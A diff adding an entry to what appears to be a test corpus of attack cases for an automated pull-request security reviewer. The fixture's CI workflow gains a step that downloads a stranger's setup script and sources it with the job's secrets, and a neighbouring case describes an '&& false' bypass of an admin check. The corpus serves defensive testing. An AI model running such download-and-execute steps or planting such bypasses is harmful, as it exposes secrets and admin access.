@@ -3423,6 +3423,26 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
   },
   {
+    id: 'attack-workflow-second-downloaded-script',
+    description:
+      'A second script behind uv\'s installer in the same CI job: the workflow already saves astral.sh\'s install.sh and runs it, and a newcomer\'s "cache the test data" PR adds a step that saves a stranger\'s setup script and sources it, with the job\'s token and secrets. A reader of only the job\'s first download-and-run sees the installer the base had and nothing new.',
+    fixture: () =>
+      attackPr({
+        repo: 'tidewatch',
+        number: 74105,
+        title: 'ci: cache the test data',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow({ extraStep: ['      - run: curl -LsSf -o uv-install.sh https://astral.sh/uv/install.sh && sh uv-install.sh', '      - run: uv run pytest'] }),
+            head: ciWorkflow({ extraStep: ['      - run: curl -LsSf -o uv-install.sh https://astral.sh/uv/install.sh && sh uv-install.sh', '      - run: curl -fsSL -o /tmp/data.sh https://testdata-cache.dev/setup.sh && . /tmp/data.sh', '      - run: uv run pytest'] }),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
+  },
+  {
     id: 'attack-admin-gate-and-false',
     description:
       'A "Simplify admin routes" PR appends `&& false` to the condition that refuses non-admins (`if (!req.user.isAdmin && false) return res.sendStatus(403);`): the refusal never runs, every signed-in user reaches the admin routes.',
